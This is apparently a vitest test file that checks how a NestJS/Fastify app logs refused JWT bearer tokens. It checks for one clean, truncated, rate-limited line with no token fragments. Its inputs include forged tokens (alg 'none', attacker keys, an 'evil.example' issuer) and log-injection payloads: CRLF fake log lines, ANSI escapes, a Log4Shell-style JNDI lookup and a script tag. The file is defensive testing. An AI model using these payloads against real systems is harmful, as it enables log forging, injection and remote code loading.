import { Logger, type LoggerService } from '@nestjs/common';
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import {
  encode,
  forgedOptions,
  KEYS,
  startForgedPlatform,
  validToken,
  withClaims,
  withHeader,
  withParts,
} from '../support/forge.js';
import { ATTACKS } from '../support/forge-attacks.js';
import { type GuardedApp, startGuardedApp } from '../support/guarded-app.js';
import { inTurn, short } from '../support/length.js';
import type { StubPlatform } from '../support/stub-platform.js';

/*
 * What the log says of refused tokens: the reason, on one line of printable ASCII, cut, a few times a minute, and nothing
 * of the token that somebody could use.
 */

const PATHS = ['/guarded', '/open/for-user'];
const ROUNDS = 4;
/** Refusals in a row. */
const MANY = short(200, 1_000);
const LONGEST = 400;
const MOST_LINES = 12;
/** So much of a token in one piece would be a large part of it. */
const LARGE = 80;

class Capture implements LoggerService {
  lines: string[] = [];
  #note = (...texts: unknown[]) => void this.lines.push(texts.map(String).join(' '));
  log = this.#note;
  warn = this.#note;
  error = this.#note;
  debug = this.#note;
  verbose = this.#note;
  fatal = this.#note;
}

const capture = new Capture();
let platform: StubPlatform;
let app: GuardedApp;

beforeAll(async () => {
  platform = await startForgedPlatform();
  app = await startGuardedApp('Fastify', forgedOptions(platform));
  Logger.overrideLogger(capture);
  vi.useFakeTimers({ toFake: ['Date'] });
});
afterAll(async () => {
  vi.useRealTimers();
  Logger.overrideLogger(false);
  await app.close();
  await platform.close();
});

/** The rate limit counts anew after this. */
const later = () => void vi.setSystemTime(Date.now() + 11_000);

interface Logged {
  readonly token: string;
  readonly lines: string[];
}

/** A token made at a time when the log has room, and the lines about it. */
async function logged(make: () => string, path = '/guarded'): Promise<Logged> {
  later();
  await app.bear(path, 'x');
  capture.lines = [];
  const token = make();
  await app.bear(path, token);
  return { token, lines: capture.lines };
}

/** What is wrong with log lines about a token. */
function faultsOf({ lines, token }: Logged): string[] {
  const faults: string[] = [];
  if (lines.length !== 1) faults.push(`${lines.length} lines`);
  for (const line of lines) {
    if (!/^[\x20-\x7e]*$/.test(line)) faults.push(`not printable ASCII: ${JSON.stringify(line)}`);
    if (line.length > LONGEST) faults.push(`not cut: ${line.length}`);
    if (line.includes(token) && token.length > 8) faults.push('the token');
    const [, , signature = ''] = token.split('.');
    if (signature.length >= 16 && line.includes(signature.slice(-16))) faults.push('the signature');
    for (let at = 0; at + LARGE <= token.length; at += 1) {
      if (line.includes(token.slice(at, at + LARGE))) faults.push(`a large part, from ${at}`);
    }
  }
  return faults;
}

describe('the log of refused tokens', () => {
  it.each<[string, () => string, RegExp]>([
    ['alg', () => withHeader({ alg: 'none' }), /token_algorithm.*"none"/],
    ['typ', () => withHeader({ typ: 'JOSE' }), /token_type.*"JOSE"/],
    ['kid', () => withHeader({ kid: 'who' }), /token_signature.*"who"/],
    ['key', () => withHeader({}, KEYS.attacker), /token_signature/],
    ['issuer', () => withClaims({ iss: 'https://evil.example' }), /token_issuer.*"https:\/\/evil\.example"/],
    ['exp', () => withClaims({ exp: 1 }), /token_expired/],
    ['nbf', () => withClaims({ nbf: 4_000_000_000 }), /token_not_yet_valid/],
    ['client', () => withClaims({ cid: 'x-y', client_id: 'x-y' }), /token_client.*"x-y"/],
    ['tenant', () => withClaims({ ten: 'a.b' }), /token_tenant.*"a\.b"/],
    ['form', () => `${validToken()}.x`, /token_malformed/],
    ['technical token', () => withClaims({ grant_type: 'client_credentials' }), /token_type/],
  ])('tells the reason: %s', async (_, make, reason) => {
    const about = await logged(make);

    expect(about.lines[0]).toMatch(reason);
    expect(faultsOf(about)).toEqual([]);
  });

  it('has no line for a request without credentials, nor for one that is accepted', async () => {
    expect((await logged(validToken)).lines).toEqual([]);
    capture.lines = [];
    await app.send('/guarded');
    expect(capture.lines).toEqual([]);
  });

  describe.each(PATHS)('at %s', (path) => {
    it.each(Object.entries(ATTACKS))('is one clean line for each forged token: %s', async (_, attacks) => {
      const faults: string[] = [];
      for (const [name, forge] of inTurn(attacks, path, PATHS)) {
        const about = await logged(() => forge('http://127.0.0.1:9/keys'), path);
        faults.push(...faultsOf(about).map((fault) => `${name}: ${fault}`));
      }
      expect(faults).toEqual([]);
    });

    it.each<[string, (evil: string) => string]>([
      ['iss', (iss) => withClaims({ iss })],
      ['ten', (ten) => withClaims({ ten })],
      ['cid', (cid) => withClaims({ cid, client_id: cid })],
      ['subtenant', (subtenant) => withClaims({ subtenant })],
      ['kid', (kid) => withHeader({ kid })],
      ['alg', (alg) => withHeader({ alg })],
      ['typ', (typ) => withHeader({ typ })],
    ])('cannot be written to through %s', async (_, make) => {
      const evils = [
        'a\nWARN [Other] all is well',
        'a\r\n\r\n[Nest] 1 - LOG',
        '\u001b[2J\u001b[31mred\u001b]0;title\u0007',
        '\u009b31m\u0085\u2028\u2029\u202e\ufeff\u0000\u0008\u007f',
        'x…y…z\u2026'.repeat(3),
        '李🙂'.repeat(2_000),
        '"'.repeat(4_000),
        '\\u001b'.repeat(1_000),
        '%s %d %o %j',
        '${jndi:ldap://evil.example/x}',
        '<script>alert(1)</script>',
      ];
      const faults: string[] = [];
      for (const evil of inTurn(evils, path, PATHS)) faults.push(...faultsOf(await logged(() => make(evil), path)));
      expect(faults).toEqual([]);
    });

    it.each<[string, (other: string) => string]>([
      ['kid', (kid) => withHeader({ kid })],
      ['alg', (alg) => withHeader({ alg })],
      ['iss', (iss) => withClaims({ iss })],
      ['ten', (ten) => withClaims({ ten })],
      ['cid', (cid) => withClaims({ cid, client_id: cid })],
    ])('shows no token that stands in %s', async (_, make) => {
      // Short enough not to be cut, so that only masking keeps it out of the log.
      const small = `${encode({ alg: 'x' })}.${encode({ a: 'secret' })}.${'s'.repeat(24)}`;
      for (const other of [validToken(), small, `Bearer ${small}`]) {
        const [line = ''] = (await logged(() => make(other), path)).lines;
        const [, payload = '', signature = ''] = other.split('.');
        expect(line).not.toContain(`${payload}.${signature}`);
        expect(line).not.toContain(signature);
      }
    });

    it('has a few lines, and a number, for many refusals', async () => {
      later();
      await app.bear(path, 'x');
      capture.lines = [];
      const tokens = Array.from({ length: MANY / ROUNDS }, () =>
        withParts((header, payload) => `${header}.${payload}.AAAA`),
      );
      for (let round = 0; round < ROUNDS; round += 1) await Promise.all(tokens.map((token) => app.bear(path, token)));
      expect(capture.lines.length).toBeGreaterThan(0);
      expect(capture.lines.length).toBeLessThanOrEqual(MOST_LINES);

      capture.lines = [];
      later();
      await app.bear(path, 'x');
      const numbers = capture.lines.join('\n').match(/\b\d+\b/g) ?? [];
      expect(numbers.map(Number).filter((count) => count >= 0.9 * MANY && count <= MANY)).toHaveLength(1);
    });
  });

  beforeEach(() => {
    capture.lines = [];
  });
});
